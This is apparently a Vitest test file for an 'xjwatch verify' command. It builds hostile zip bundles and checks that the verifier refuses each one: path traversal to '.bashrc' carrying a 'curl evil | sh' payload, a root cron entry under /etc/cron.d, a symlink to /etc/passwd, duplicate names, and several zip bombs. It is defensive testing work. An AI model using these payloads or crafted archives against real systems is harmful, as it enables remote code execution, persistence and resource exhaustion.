import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { siteFile, startFixtureSites, type RunningFixtures } from '../../src/demo/sites/server.js';
import { BIN, runCli, tempDir } from '../helpers/cli.js';
import { bundleEntries, craftZip, zerosDeflated, type CraftedEntry } from '../helpers/zip-craft.js';

/**
 * `xjwatch verify BUNDLE.zip` reads the zip in place. A real bundle's zip verifies; zips made by
 * hand, as a hostile sender would, are refused naming the entry, and bombs are refused quickly.
 */
let fx: RunningFixtures;
let work: string;
let bundle: string;
beforeAll(async () => {
  fx = await startFixtureSites();
  work = tempDir('xjwatch-verify-zip-');
  const file = join(work, 'county.yaml');
  writeFileSync(file, siteFile('county', fx.sites.county));
  const data = join(work, 'data');
  expect((await runCli(['crawl', file, '--json', '--no-screenshots', '--data-dir', data])).code).toBe(0);
  fx.sites.county.delete(3101, '404');
  expect((await runCli(['crawl', file, '--json', '--no-screenshots', '--confirm-after', '1', '--data-dir', data])).code).toBe(0);
  bundle = join(work, 'hard');
  const proved = await runCli(['prove', `${fx.sites.county.base}/info/1103/3101.htm`, '--out', bundle, '--data-dir', data]);
  expect(proved.code, proved.stderr).toBe(0);
}, 120_000);
afterAll(async () => fx?.close());

/** The bundle's files as zip entries under hard/, changed by `edit`, written to NAME.zip. */
function crafted(name: string, edit: (entries: CraftedEntry[]) => CraftedEntry[]): string {
  const path = join(work, `${name}.zip`);
  writeFileSync(path, craftZip(edit(bundleEntries(bundle, 'hard'))));
  return path;
}

/** Runs verify on a zip, with the process's peak memory when /usr/bin/time can tell it. */
function verifyMeasured(zip: string): { code: number | null; stdout: string; ms: number; rssMB?: number } {
  const timed = existsSync('/usr/bin/time');
  const args = timed ? ['-f', 'XJ-PEAK-KB %M', process.execPath, BIN, 'verify', zip] : [BIN, 'verify', zip];
  const t0 = performance.now();
  const r = spawnSync(timed ? '/usr/bin/time' : process.execPath, args, { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  const ms = Math.round(performance.now() - t0);
  const kb = /XJ-PEAK-KB (\d+)/.exec(r.stderr)?.[1];
  return { code: r.status, stdout: r.stdout, ms, ...(kb ? { rssMB: Math.round(Number(kb) / 1024) } : {}) };
}

describe('xjwatch verify BUNDLE.zip, in place', () => {
  it('the zip prove made verifies intact, the same as its folder', async () => {
    const z = await runCli(['verify', `${bundle}.zip`]);
    expect(z.code, z.stdout + z.stderr).toBe(0);
    expect(z.stdout).toMatch(/bundle intact \(read in place from hard\.zip, folder hard\/\): \d+ files, \d+ WARC records/);
    const folder = await runCli(['verify', bundle]);
    expect(z.stdout.split('\n').at(-2)!.replace(/ \(read in place[^)]*\)/, '')).toBe(folder.stdout.split('\n').at(-2));
    const json = await runCli(['verify', `${bundle}.zip`, '--json']);
    expect(json.json.at(-1)).toMatchObject({ type: 'summary', ok: true, zip: true });
  });

  it('an altered file, a climbing, absolute or backslashed name, a link, a duplicate: each named, exit 1', async () => {
    const flip = (b: Buffer) => {
      const c = Buffer.from(b);
      c[c.length >> 1] ^= 1;
      return c;
    };
    const cases: [string, (e: CraftedEntry[]) => CraftedEntry[], string][] = [
      ['altered', (e) => e.map((x) => (x.name === 'hard/report.html' ? { ...x, data: flip(x.data!) } : x)), 'ALTERED  report.html: altered: SHA-256'],
      ['altered-warc', (e) => e.map((x) => (x.name === 'hard/evidence.warc.gz' ? { ...x, data: flip(x.data!) } : x)), 'ALTERED  evidence.warc.gz: altered: SHA-256'],
      ['climbing', (e) => [...e, { name: 'hard/../../.bashrc', data: Buffer.from('curl evil | sh\n') }], 'ALTERED  ../../.bashrc: its name climbs out of the folder (..); not read'],
      ['absolute', (e) => [...e, { name: '/etc/cron.d/evil', data: Buffer.from('* * * * * root sh\n') }], 'ALTERED  /etc/cron.d/evil: an absolute path'],
      ['backslash', (e) => [...e, { name: 'hard\\..\\evil.bat', data: Buffer.from('x') }], 'its name holds a backslash'],
      ['link', (e) => e.map((x) => (x.name === 'hard/pages/1/captures/1.html' ? { name: x.name, data: Buffer.from('/etc/passwd'), method: 0, mode: 0o120777 } : x)), 'ALTERED  pages/1/captures/1.html: a symbolic link entry'],
      ['duplicate', (e) => [...e, { name: 'hard/report.html', data: Buffer.from('<html>another report</html>') }], 'ALTERED  report.html: appears twice in the zip'],
      ['case', (e) => [...e, { name: 'hard/Report.html', data: Buffer.from('<html>x</html>') }], 'ALTERED  Report.html: differs from report.html only in case'],
    ];
    for (const [name, edit, expected] of cases) {
      const r = await runCli(['verify', crafted(name, edit)]);
      expect(r.code, `${name}\n${r.stdout}${r.stderr}`).toBe(1);
      expect(r.stdout, name).toContain(expected);
      expect(r.stdout, name).not.toContain('bundle intact');
    }
  });

  it('zip bombs are refused quickly: an entry inflating past what it declares, content far beyond the zip\'s size, too many entries', () => {
    const size = readFileSync(join(bundle, 'report.html')).length;
    const bombs: [string, string, string][] = [
      // the manifest's size, declared honestly in the headers, and 1 GiB of zeros behind it
      [crafted('bomb-liar', (e) => e.map((x) => (x.name === 'hard/report.html' ? { name: x.name, deflated: zerosDeflated(1024), declaredSize: size } : x))), 'ALTERED  report.html: altered: inflates to more than', 'an entry declaring its manifest size, inflating to 1 GiB'],
      [crafted('bomb-big', (e) => [...e, { name: 'hard/padding.bin', deflated: zerosDeflated(4000), declaredSize: 4000 * 2 ** 20 }]), 'ALTERED  bomb-big.zip: declares', 'an entry declaring 3.9 GiB in a 4 MB zip'],
      [crafted('bomb-overlap', (e) => [...e, { name: 'hard/z/0', deflated: zerosDeflated(1024), declaredSize: 2 ** 30 }, ...Array.from({ length: 999 }, (_, i) => ({ name: `hard/z/${i + 1}`, shareWith: e.length }))]), 'share their bytes (a zip bomb\'s trick): refused unread', '1,000 entries sharing one 1 GiB of zeros'],
      // the bundle's own entries, and 60,000 more
      [crafted('bomb-count', (e) => [...e, ...Array.from({ length: 60_000 }, (_, i) => ({ name: `hard/x/${i}`, method: 0 as const }))]), `declares ${bundleEntries(bundle, 'hard').length + 60_000} entries, more than a bundle holds (50000): refused unread`, '60,000 empty entries'],
    ];
    for (const [zip, expected, what] of bombs) {
      const r = verifyMeasured(zip);
      console.log(`zip bomb (${what}, ${Math.round(readFileSync(zip).length / 1024)} KiB): refused in ${r.ms} ms${r.rssMB !== undefined ? `, peak RSS ${r.rssMB} MB` : ''}`);
      expect(r.code, r.stdout).toBe(1);
      expect(r.stdout).toContain(expected);
    }
  });
});
